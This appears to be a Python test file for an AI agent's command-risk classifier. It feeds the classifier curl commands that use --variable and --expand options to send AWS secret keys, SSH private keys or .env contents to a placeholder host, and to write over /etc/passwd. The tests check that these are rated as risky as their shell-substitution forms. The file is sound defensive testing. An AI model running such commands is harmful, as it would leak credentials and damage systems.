"""What curl puts together by itself counts as if it stood there: a variable of the environment, a file, a text."""

from __future__ import annotations

from agent.risk.classifier import classify
from tests.support.each import each

KEPT = (
    ("%AWS_SECRET_ACCESS_KEY", "$AWS_SECRET_ACCESS_KEY"),
    ("%HOME", "$HOME"),
    ("k=text", "text"),
    ("k@$HOME/.ssh/id_rsa", "$(cat $HOME/.ssh/id_rsa)"),
    ("k@.env", "$(cat .env)"),
    ("k@notes", "$(cat notes)"),
)
PLACES = ("url 'https://x.example/?a={}'", "data 'a={}' https://x.example", "header 'X: {}' https://x.example")


@each("place", PLACES)
@each("function", ["", ":url", ":trim:b64"])
def test_what_is_expanded_counts_as_if_it_stood_there(place: str, function: str) -> None:
    for kept, written in KEPT:
        name = kept.lstrip("%").partition("@")[0].partition("=")[0]
        by_itself = classify(f"curl --variable {kept} --expand-{place.format('{{' + name + function + '}}')}")
        by_shell = classify(f"curl --{place.replace(chr(39), chr(34)).format(written)}")
        assert by_itself.level.rank >= by_shell.level.rank, (kept, place)


@each("output", ["{{f}}", "{{f:trim}}"])
def test_a_file_named_by_a_variable_is_written(output: str) -> None:
    command = f"curl --variable f=/etc/passwd --expand-output '{output}' https://x.example"
    assert (
        classify(command).level.value == classify("curl --output /etc/passwd https://x.example").level.value == "high"
    )


def test_a_name_that_is_not_kept_stays_unknown() -> None:
    assert classify("curl --expand-output '{{f}}' https://x.example").level.value != "low"
    assert classify("curl --variable n=1 --expand-url 'https://x.example/{{n}}'").level.value == "low"
